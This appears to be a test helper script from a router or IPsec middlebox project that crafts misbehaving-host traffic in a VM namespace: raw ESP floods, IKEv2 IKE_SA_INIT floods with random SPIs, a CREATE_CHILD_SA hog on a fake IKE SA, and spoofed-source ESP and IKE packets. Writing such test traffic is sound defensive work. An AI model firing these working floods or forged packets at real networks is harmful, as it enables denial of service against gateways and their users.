#!/usr/bin/python3
"""tests/vm/attack.py: what a misbehaving LAN host sends, for the t-attack-* tests.

Runs in the attacking host's network namespace (ip netns exec NS attack.py ...)
and sends crafted packets with plain sockets (no scapy: its import alone takes
seconds under TCG). Every mode prints one line of what it sent and exits 0.

  attack.py esp --dst ADDR [--spread N] --spi SPI [--new-spi]
                [--rate PPS] (--count N | --duration S)
      raw ESP (IP protocol 50): SPI, sequence number and junk in place of a
      payload. --spread N: destinations ADDR, ADDR+1, ... ADDR+N-1 in turn;
      --new-spi: SPI, SPI+1, ... (a new SA on every packet).
  attack.py ike-init --dst ADDR [--spread N] [--rate PPS] (--count N | --duration S)
      IKEv2 IKE_SA_INIT requests (RFC 7296 3.1 headers, opaque payload) from
      UDP port 500, each with a new random initiator SPI: a new IKE SA for a
      middlebox that learns IKE SAs from the LAN host's first message.
  attack.py child-hog --peer ADDR --interval S --duration S
      one IKE_SA_INIT (the IKE SA a middlebox then attributes to this host),
      then a CREATE_CHILD_SA request with a new message ID every S seconds on
      that IKE SA, with a responder SPI the peer never issued: a real peer
      drops them and never answers; the attacker needs no answer.

  attack.py forge --kind esp|ike-child --dst ADDR --src ADDR [--src-spread N]
                  [--rate PPS] (--count N | --duration S)
      what anyone on the internet can send to the router's WAN address, with
      a forged source (ADDR, ADDR+1, ... ADDR+N-1 in turn; IP_HDRINCL): ESP
      with a new random SPI each, or IKEv2 CREATE_CHILD_SA requests on UDP
      500 naming a new random IKE SA each.

--rate 0 (the default for floods) sends as fast as the socket takes them;
when the stack pushes back (ENOBUFS) it waits a little and sends again, so
every packet counted was handed to the stack.
"""
import argparse
import errno
import ipaddress
import os
import secrets
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "peers"))
from ikewire import CREATE_CHILD_SA, F_INITIATOR, IKE_SA_INIT, P_SA, P_SK, header, payload  # noqa: E402


def destinations(base, spread):
    first = int(ipaddress.IPv4Address(base))
    return [str(ipaddress.IPv4Address(first + i)) for i in range(max(spread, 1))]


def send(sock, pkt, addr):
    """sendto, waiting out ENOBUFS/EAGAIN (a full qdisc or socket buffer)."""
    while True:
        try:
            sock.sendto(pkt, addr)
            return
        except OSError as e:
            if e.errno not in (errno.ENOBUFS, errno.EAGAIN):
                raise
            time.sleep(0.001)


class Pace:
    """Sends at most rate packets per second (0: unpaced); until count or duration."""

    def __init__(self, rate, count, duration):
        self.rate, self.count = rate, count
        self.t0 = time.monotonic()
        self.end = self.t0 + duration if duration else None
        self.n = 0

    def next(self):
        if self.count is not None and self.n >= self.count:
            return False
        if self.end is not None and time.monotonic() >= self.end:
            return False
        if self.rate:
            due = self.t0 + self.n / self.rate
            d = due - time.monotonic()
            if d > 0:
                time.sleep(d)
        self.n += 1
        return True

    def elapsed(self):
        return time.monotonic() - self.t0


def esp(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ESP)
    dsts = destinations(a.dst, a.spread)
    junk = os.urandom(48)
    p = Pace(a.rate, a.count, a.duration)
    while p.next():
        i = p.n - 1
        spi = (a.spi + i) & 0xFFFFFFFF if a.new_spi else a.spi
        send(s, struct.pack("!II", spi, i + 1) + junk, (dsts[i % len(dsts)], 0))
    print("attack: esp: %d packets to %d destination(s) in %.1fs, spi 0x%x%s"
          % (p.n, len(dsts), p.elapsed(), a.spi, " and up" if a.new_spi else ""), flush=True)


def ike_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", 500))
    return s


def ike_init(a):
    s = ike_socket()
    dsts = destinations(a.dst, a.spread)
    body = payload(os.urandom(40))
    p = Pace(a.rate, a.count, a.duration)
    while p.next():
        i = p.n - 1
        pkt = header(secrets.randbits(64) | 1, 0, P_SA, IKE_SA_INIT, F_INITIATOR, 0, body)
        send(s, pkt, (dsts[i % len(dsts)], 500))
    print("attack: ike-init: %d IKE_SA_INIT with random initiator SPIs to %d destination(s) in %.1fs"
          % (p.n, len(dsts), p.elapsed()), flush=True)


def child_hog(a):
    s = ike_socket()
    ispi, rspi = secrets.randbits(64) | 1, secrets.randbits(64) | 1
    send(s, header(ispi, 0, P_SA, IKE_SA_INIT, F_INITIATOR, 0, payload(os.urandom(40))), (a.peer, 500))
    print("attack: child-hog: IKE SA 0x%016x, a CREATE_CHILD_SA every %ss" % (ispi, a.interval), flush=True)
    end = time.monotonic() + a.duration
    msgid = 2       # as if IKE_AUTH (message 1) had happened
    while True:
        send(s, header(ispi, rspi, P_SK, CREATE_CHILD_SA, F_INITIATOR, msgid, payload(os.urandom(64))),
             (a.peer, 500))
        print("attack: child-hog: CREATE_CHILD_SA message ID %d at %.1f" % (msgid, time.monotonic()), flush=True)
        msgid += 1
        left = end - time.monotonic()
        if left <= a.interval:
            break
        time.sleep(a.interval)


def forge(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL
    srcs = destinations(a.src, a.src_spread)
    dst = socket.inet_aton(a.dst)
    p = Pace(a.rate, a.count, a.duration)
    while p.next():
        i = p.n - 1
        if a.kind == "esp":
            proto, body = socket.IPPROTO_ESP, struct.pack("!II", secrets.randbits(32) | 0x100, 1) + os.urandom(48)
        else:
            ike = header(secrets.randbits(64) | 1, secrets.randbits(64) | 1, P_SK, CREATE_CHILD_SA,
                             F_INITIATOR, 2, payload(os.urandom(64)))
            proto, body = socket.IPPROTO_UDP, struct.pack("!HHHH", 500, 500, 8 + len(ike), 0) + ike
        # RFC 791 header; the kernel fills in the checksum (and an ID when 0)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0, 64, proto, 0,
                         socket.inet_aton(srcs[i % len(srcs)]), dst)
        send(s, ip + body, (a.dst, 0))
    print("attack: forge: %d %s packets to %s from %d source(s) in %.1fs"
          % (p.n, a.kind, a.dst, len(srcs), p.elapsed()), flush=True)


def how_much(p):
    """--rate, and --count or --duration: how many packets a flood sends."""
    p.add_argument("--rate", type=float, default=0)
    g = p.add_mutually_exclusive_group(required=True)
    g.add_argument("--count", type=int)
    g.add_argument("--duration", type=float)


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    e = sub.add_parser("esp")
    e.add_argument("--dst", required=True)
    e.add_argument("--spread", type=int, default=1)
    e.add_argument("--spi", type=lambda v: int(v, 0), required=True)
    e.add_argument("--new-spi", action="store_true")
    how_much(e)
    i = sub.add_parser("ike-init")
    i.add_argument("--dst", required=True)
    i.add_argument("--spread", type=int, default=1)
    how_much(i)
    h = sub.add_parser("child-hog")
    h.add_argument("--peer", required=True)
    h.add_argument("--interval", type=float, required=True)
    h.add_argument("--duration", type=float, required=True)
    f = sub.add_parser("forge")
    f.add_argument("--kind", choices=("esp", "ike-child"), required=True)
    f.add_argument("--dst", required=True)
    f.add_argument("--src", required=True)
    f.add_argument("--src-spread", type=int, default=1)
    how_much(f)
    a = ap.parse_args()
    {"esp": esp, "ike-init": ike_init, "child-hog": child_hog, "forge": forge}[a.cmd](a)
    return 0


if __name__ == "__main__":
    sys.exit(main())
